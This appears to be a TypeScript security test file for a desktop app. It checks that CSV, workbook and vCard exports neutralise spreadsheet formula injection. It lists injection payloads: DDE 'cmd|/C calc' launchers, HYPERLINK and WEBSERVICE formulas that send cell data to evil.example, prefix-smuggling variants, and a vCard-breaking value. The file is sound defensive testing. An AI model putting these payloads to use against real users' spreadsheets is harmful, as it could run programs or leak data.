import { fc } from '../support/fast-check.ts';
import { afterEach } from 'vitest';
import { csvLine } from '../../electron/services/export/table-rows.ts';
import { openZip } from '../../electron/adapters/import/zip-file.ts';
import { importLimits } from '../../electron/services/import/file-contents.ts';
import type { Application } from '../../shared/domain/application.ts';
import type { ExportScope } from '../../shared/ipc/areas/export.ts';
import { emptyContent, writeField } from '../../shared/domain/content.ts';
import { fieldPaths } from '../../shared/domain/fields.ts';
import { guardCell, restoreCell } from '../../shared/rules/tables/guarded-cells.ts';
import { Desks, sampleIn, valueOf, type Desk } from '../support/desks.ts';
import { attackGroup, type Through } from './attack-group.ts';

const desks = new Desks();
afterEach(() => desks.end());

const formulas: Readonly<Record<string, string>> = {
  'a sum': '=1+1',
  'a program': "=cmd|'/C calc'!A0",
  'a program behind a plus': "+cmd|'/C calc'!A0",
  'a program behind a minus': "-2+3+cmd|'/C calc'!A0",
  'a function behind an at sign': '@SUM(1+1)*cmd|A0',
  'a link': '=HYPERLINK("http://evil.example/?"&A1,"Invoice")',
  'another server': '=WEBSERVICE("http://evil.example/"&A1)',
  'a data exchange': '=DDE("cmd";"/C calc";"x")',
  'a wide equals sign': '＝1+1',
  'a wide plus': '＋1',
  'a wide at sign': '＠SUM(1)',
  'blanks in front': '   =1+1',
  'a blank that does not break in front': '\u00A0=1+1',
  'a byte order mark in front': '\uFEFF=1+1',
  'a tab in front': '\t=1+1',
  'a line break in front': '\n=1+1',
  'a carriage return in front': '\r=1+1',
  'a quote in front': '"=1+1',
  'a quote and a cell in front': '","=1+1',
  'an apostrophe in front': "'=1+1",
};

/** Cells of a CSV by RFC 4180; written anew here, so as not to share a fault of the program. */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const letter = text.charAt(at);
    if (isQuoted && letter === '"' && text.charAt(at + 1) === '"') {
      cell += '"';
      at += 1;
    } else if (letter === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (!isQuoted && [separator, '\n', '\r'].includes(letter)) {
      cells.push(cell);
      cell = '';
    } else cell += letter;
  }
  return [...cells, cell];
}

/** Cells that a spreadsheet would calculate: it skips blanks at the start. A quotation mark makes a cell text. */
function calculated(cells: readonly string[]): Through {
  const found = cells.find(
    (cell) => /^[\s\u200B]*[=+\-@＝＋－＠]/u.test(cell) && !/^-?\d+(?:\.\d+)?$/u.test(cell),
  );
  return found === undefined ? null : `A spreadsheet would calculate ${JSON.stringify(found)}.`;
}

async function deskWith(
  formula: string,
): Promise<{ readonly desk: Desk; readonly application: Application }> {
  const desk = await desks.start();
  const { id, content, revision } = await sampleIn(desk, 'service');
  const changed = fieldPaths
    .filter((path) => !/Code|Language|language/u.test(path))
    .reduce((written, path) => writeField(written, path, formula), content);
  const saved = await desk.coDesk.applications.save({
    applicationId: id,
    content: changed,
    baseRevision: revision,
  });
  return { desk, application: valueOf(saved) };
}

async function exported({ desk, application }: Awaited<ReturnType<typeof deskWith>>, format: 'csv' | 'xlsx') {
  const scope: ExportScope = { kind: 'chosen', applicationIds: [application.id] };
  const ended = await desk.coDesk.exports.save({ scope, format, withPdfs: false, language: 'de' });
  if (!ended.ok) throw new Error(`Nothing was exported: ${ended.error.kind}.`);
  const bytes = desk.host.handedOut.at(-1)?.bytes;
  if (bytes === undefined) throw new Error('Nothing was handed out.');
  return bytes;
}

attackGroup('formulas in tables', (attack) => {
  for (const [what, formula] of Object.entries(formulas)) {
    for (const language of ['en', 'de'] as const)
      attack(`${what} in a CSV (${language})`, () => {
        const line = csvLine(['first', formula, 'last'], language);
        const cells = cellsOf(line.slice(0, -2), language === 'de' ? ';' : ',');
        if (cells.length !== 3) return `The row has ${cells.length} cells.`;
        if (restoreCell(cells[1] ?? '') !== formula) return 'The import would not bring it back.';
        return calculated(cells);
      });
  }

  attack('any text: it is guarded, and comes back as it was', () => {
    const parts = fc.constantFrom(...Object.values(formulas), "'", '=', ' ', '\t', 'a', '-');
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 5 }), (written) => {
        const text = written.join('');
        const guarded = guardCell(text);
        return restoreCell(guarded) === text && calculated([guarded]) === null;
      }),
      { numRuns: 500 },
    );
    return null;
  });

  attack('formulas in every field of an application, as a CSV of the program', async () => {
    const text = (await exported(await deskWith(formulas['a program'] ?? ''), 'csv')).toString('utf8');
    return calculated(cellsOf(text, ';'));
  });

  attack('formulas in every field of an application, as a workbook of the program', async () => {
    const bytes = await exported(await deskWith(formulas['a program'] ?? ''), 'xlsx');
    const zip = await openZip(bytes, importLimits);
    const sheet = zip.text('xl/worksheets/sheet1.xml') ?? '';
    if (!sheet.includes('cmd|')) return 'Nothing was in it.';
    const parts = ['xl/externalLinks/externalLink1.xml', 'xl/vbaProject.bin', 'xl/connections.xml'];
    if (parts.some((part) => zip.has(part))) return 'It has a part that leads elsewhere.';
    return /<f[ />]/u.test(sheet) ? 'A cell holds a formula.' : null;
  });

  for (const format of ['csv', 'vcard'] as const)
    attack(`formulas and line breaks in an address book as ${format}`, async () => {
      const { coDesk, host } = await desks.start();
      for (const name of Object.values(formulas).filter((text) => !/[\t\r\n\uFEFF]/u.test(text))) {
        const party = { ...emptyContent.consignee, name, city: `${name}END:VCARD` };
        valueOf(await coDesk.addressBook.save({ id: null, party }));
      }
      valueOf(await coDesk.addressBook.saveFile({ format, language: 'de' }));
      const text = host.handedOut.at(-1)?.bytes.toString('utf8') ?? '';
      if (!text.includes('cmd|')) return 'Nothing was in it.';
      if (format === 'csv') return calculated(cellsOf(text, ';'));
      const [begun, ended] = [/^BEGIN:VCARD\r?$/gmu, /^END:VCARD\r?$/gmu].map(
        (line) => text.match(line)?.length,
      );
      return begun === ended ? null : 'A card ended where it should not.';
    });
});
